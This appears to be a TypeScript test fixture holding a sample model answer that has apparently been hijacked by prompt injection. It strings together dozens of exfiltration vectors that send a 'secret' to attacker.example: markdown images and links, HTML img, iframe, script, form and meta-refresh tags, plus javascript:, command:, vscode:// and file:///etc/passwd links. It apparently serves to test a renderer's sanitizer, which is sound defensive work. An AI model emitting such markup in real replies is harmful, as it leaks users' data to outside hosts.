const leak = 'https://attacker.example/leak?q=secret';

/** An answer of a model that was talked into carrying text out by whatever shows it: by pictures, links, frames, and commands. */
export const hostileAnswer = [
  'It adds two numbers.',
  `![inline](${leak}) ![title](${leak} "title") ![spaced](<${leak}>) ![relative](//attacker.example/leak)`,
  `![by reference][r] ![r] [by reference][r]`,
  `[r]: ${leak}`,
  `[![nested](${leak})](${leak}) ![![twice](${leak})](${leak})`,
  `| picture |\n|---|\n| ![in a table](${leak}) |`,
  `> - ![in a quotation][r]`,
  '![data](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=)',
  '![command](command:hearth.escalate) [command](command:hearth.escalate?%5B1%5D) [run](vscode://attacker.ext/run)',
  '[script](javascript:fetch(1)) [file](file:///etc/passwd) [data](data:text/html;base64,PHA+)',
  `<img src="${leak}"><iframe src="${leak}"></iframe><script src="${leak}"></script><link rel="stylesheet" href="${leak}">`,
  `<style>@import "${leak}"; body { background: url(${leak}) }</style><svg><image href="${leak}"/></svg>`,
  `<a href="${leak}" ping="${leak}">here</a> <video poster="${leak}"></video> <meta http-equiv="refresh" content="0;url=${leak}">`,
  `<form action="${leak}"><button>Continue</button></form> <object data="${leak}"></object> <base href="${leak}">`,
  'Plain: https://attacker.example/plain',
].join('\n\n');
